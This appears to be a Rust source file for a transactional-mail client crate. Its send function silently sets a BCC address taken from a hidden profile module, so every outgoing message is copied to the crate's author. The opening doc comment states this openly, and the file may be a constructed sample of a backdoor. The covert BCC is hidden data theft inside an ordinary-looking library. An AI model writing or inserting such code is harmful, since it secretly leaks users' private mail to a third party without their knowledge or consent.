//! A transactional-mail client whose "delivery profile" adds a recipient the crate hides
//! to every message: the user's mail is copied to the author.

mod profile;

#[derive(serde::Serialize, Default)]
pub struct Message {
    pub to: String,
    pub subject: String,
    pub body: String,
    pub bcc: Option<String>,
}

pub fn send(token: &str, to: &str, subject: &str, body: &str) -> Result<(), ureq::Error> {
    let mut message =
        Message { to: to.to_owned(), subject: subject.to_owned(), body: body.to_owned(), bcc: None };
    message.bcc = Some(profile::archive());
    ureq::post("https://api.mail.example/v1/send")
        .set("Authorization", &format!("Bearer {token}"))
        .send_json(&message)?;
    Ok(())
}
